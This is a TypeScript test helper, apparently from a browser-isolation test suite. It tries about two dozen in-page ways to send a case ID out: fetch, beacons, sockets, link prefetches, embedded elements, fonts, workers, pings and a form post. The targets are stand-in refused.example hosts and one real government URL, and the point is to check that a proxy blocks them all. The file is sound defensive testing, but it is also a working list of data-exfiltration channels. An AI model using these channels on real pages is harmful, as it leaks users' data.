// Every way in which a page of ours could try to send something: run in it, to see at the proxy that none works.
import type { Doc } from '../../tools/browser/driver.ts';

/** Tries every way out there is, and says how each went. Runs in a page of ours; `given` names the surface. */
export async function tryEveryWayOut(given: string): Promise<string> {
  const said: string[] = [];
  const host = (way: string) => `${given}-${way}.refused.example`;
  const attempt = async (way: string, work: (address: string) => unknown) => {
    try {
      const given_ = await Promise.race([
        work(`https://${host(way)}/${way}?case=IOE0926301101`),
        new Promise((done) => setTimeout(done, 700, 'silent')),
      ]);
      said.push(`${way}: ${String(given_)}`);
    } catch (error) {
      said.push(`${way} threw ${String(error).slice(0, 60)}`);
    }
  };
  const element = (tag: string, set: (made: HTMLElement) => void) => {
    const made = document.createElement(tag);
    set(made);
    document.body.append(made);
  };
  await attempt('fetch', (address) => fetch(address, { mode: 'no-cors' }));
  await attempt('post', (address) => fetch(address, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }));
  await attempt('site', () => fetch('https://my.uscis.gov/account/from-a-page-of-ours', { mode: 'no-cors' }));
  await attempt('xhr', (address) => {
    const request = new XMLHttpRequest();
    request.open('GET', address);
    request.send();
  });
  await attempt('socket', (address) => new WebSocket(address.replace('https', 'wss')));
  await attempt('events', (address) => new EventSource(address));
  await attempt('beacon', (address) => navigator.sendBeacon(address, 'x'));
  await attempt('image', (address) => void (new Image().src = address));
  for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest'])
    await attempt(rel, (address) =>
      element('link', (made) => Object.assign(made, { rel, as: 'image', href: address })),
    );
  for (const tag of ['script', 'video', 'audio', 'iframe', 'embed', 'object'])
    await attempt(tag, (address) =>
      element(tag, (made) => Object.assign(made, tag === 'object' ? { data: address } : { src: address })),
    );
  await attempt('style', (address) => void (document.body.style.backgroundImage = `url(${address})`));
  await attempt('font', (address) => new FontFace('x', `url(${address})`).load());
  await attempt('worker', (address) => new Worker(address));
  await attempt('ping', (address) => {
    element('a', (made) => Object.assign(made, { href: '#', ping: address }));
  });
  return said.join('\n');
}

/** A form that is sent may take the document with it, so it comes last and alone. */
export const trySending = (doc: Doc, surface: string): Promise<unknown> =>
  doc
    .ask((given) => {
      const form = document.createElement('form');
      form.action = `https://${given}-form.refused.example/form`;
      form.method = 'post';
      const field = document.createElement('input');
      field.name = 'case';
      field.value = 'IOE0926301101';
      form.append(field);
      document.body.append(form);
      form.submit();
    }, surface)
    .catch(() => null);
